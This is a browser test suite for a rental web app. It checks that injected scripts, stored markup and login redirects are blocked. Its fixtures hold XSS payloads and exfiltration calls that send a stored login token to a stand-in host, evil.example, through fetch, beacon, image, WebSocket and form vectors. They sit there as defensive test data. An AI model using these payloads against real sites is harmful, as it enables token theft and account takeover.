import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { openPage, openSignedIn, sharedSite, storeToken, takeComplaints } from './browser.ts';
import { addReservation, addUser, addVehicle, removeUsers, removeVehicles } from './rows.ts';
import { CUSTOMER } from './visitor.ts';

const EVIL = 'https://evil.example';

/** Markup that an attacker would inject into a page. */
const INJECTED = `
  <script>window.stolen = 'inline'; fetch('${EVIL}/inline?' + localStorage.token)</script>
  <script src="${EVIL}/foreign.js"></script>
  <script type="module">import '${EVIL}/module.js'; window.stolen = 'module'</script>
  <script src="data:text/javascript,window.stolen='data'"></script>
  <img src="/no-such-picture" onerror="window.stolen = 'handler'">
  <img src="${EVIL}/picture?by-url">
  <svg onload="window.stolen = 'svg'"></svg>
  <iframe srcdoc="<script>parent.stolen = 'frame'</script>"></iframe>
  <iframe src="${EVIL}/frame"></iframe>
  <object data="${EVIL}/object"></object>
  <link rel="stylesheet" href="${EVIL}/style.css">
  <base href="${EVIL}/">
  <a id="link" href="javascript:void(window.stolen = 'link')">x</a>
  <form id="form" action="${EVIL}/form" method="post"><input name="token" value="x"></form>`;

const PAGES = ['/', '/vehicles/1', '/user', '/nowhere'];

type Window = { stolen?: string };

const stolen = (page: Page) => page.evaluate(() => (globalThis as Window).stolen);

/** The attacker's URLs that the page asks for; none leaves the browser. */
async function watchEvil(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.context().route(`${EVIL}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: "window.stolen = 'foreign'" });
  });
  return asked;
}

/** Opens a page with the attacker's markup in it, and does what a person might do there. */
async function openInjected(page: Page, path: string) {
  // A visitor would be sent away from the pages of an account.
  if (path.startsWith('/user')) await storeToken(page, CUSTOMER);
  const asked = await watchEvil(page);
  await page.route(
    (url) => url.pathname + url.search === path,
    async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace('</body>', `${INJECTED}</body>`);
      await route.fulfill({ response, body: html });
    },
  );
  await page.goto(path);
  await page.locator('#link').evaluate((link) => (link as HTMLAnchorElement).click());
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = "window.stolen = 'inserted'";
    document.body.append(script);
  });
  await page.waitForLoadState('networkidle');
  return asked;
}

describe('a script injected into a page', () => {
  it('neither runs nor loads on any page, and no form leads to another site', async () => {
    const context = (await openPage({ inOwnContext: true })).context();
    for (const path of PAGES) {
      const page = await context.newPage();
      const asked = await openInjected(page, path);
      await page.locator('#form').evaluate((form) => (form as HTMLFormElement).submit());
      await expect.poll(() => takeComplaints().join(), { message: path }).toContain('form-action');
      expect(await stolen(page), path).toBeUndefined();
      expect(asked, path).toEqual([]);
      await page.close();
      // The browser complains of one form more than once.
      takeComplaints();
    }
  });

  it('could not send the token anywhere if it ran', async () => {
    const page = await openPage();
    await storeToken(page, CUSTOMER);
    await page.goto('/about');
    const asked = await watchEvil(page);
    expect(await page.evaluate(() => localStorage.getItem('token'))).toMatch(/^ey/);
    await page.evaluate(async (evil) => {
      const url = `${evil}/?${localStorage.getItem('token')}`;
      await fetch(url).catch(() => undefined);
      await fetch(url, { mode: 'no-cors' }).catch(() => undefined);
      navigator.sendBeacon(url);
      new Image().src = url;
      try {
        new WebSocket(url.replace('https', 'wss'));
        new EventSource(url);
      } catch {
        // An immediate refusal is fine too.
      }
    }, EVIL);
    await page.waitForLoadState('networkidle');
    expect(asked).toEqual([]);
    expect(takeComplaints().join()).toContain('connect-src');
  });
});

describe('markup in what people write', () => {
  const MARKUP = `<img src=x onerror="window.stolen='text'">`;

  it("is shown as text in a person's name and on their reservation", async () => {
    const customer = await addUser({ firstName: MARKUP });
    const vehicleId = await addVehicle({ model: 'Threattest' });
    const [from, to] = ['2041-01-01T18:00Z', '2041-01-01T20:00Z'];
    const rental = { vehicleId, from, to, pickUpLocation: MARKUP };
    const id = await addReservation({ userId: customer.id, ...rental });
    const page = await openSignedIn(customer);
    await page.goto(`/user/reservations/${id}`);
    await page.getByText(MARKUP, { exact: true }).filter({ visible: true }).first().waitFor();
    await page.getByRole('button', { name: MARKUP }).waitFor();
    expect(await stolen(page)).toBeUndefined();
    await removeVehicles('Threattest');
    await removeUsers();
  });
});

it('the page after signing in is never on another site', async () => {
  const page = await openSignedIn(CUSTOMER);
  // What else it refuses: tests/domain/kernel/paths.test.ts.
  for (const next of ['/\\evil.example', 'javascript:window.stolen=1']) {
    await page.goto(`/auth?type=login&next=${encodeURIComponent(next)}`, {
      waitUntil: 'commit',
    });
    await page.waitForURL((url) => url.pathname !== '/auth');
    expect(page.url(), next).toBe(`${sharedSite().url}/`);
    expect(await stolen(page)).toBeUndefined();
  }
});
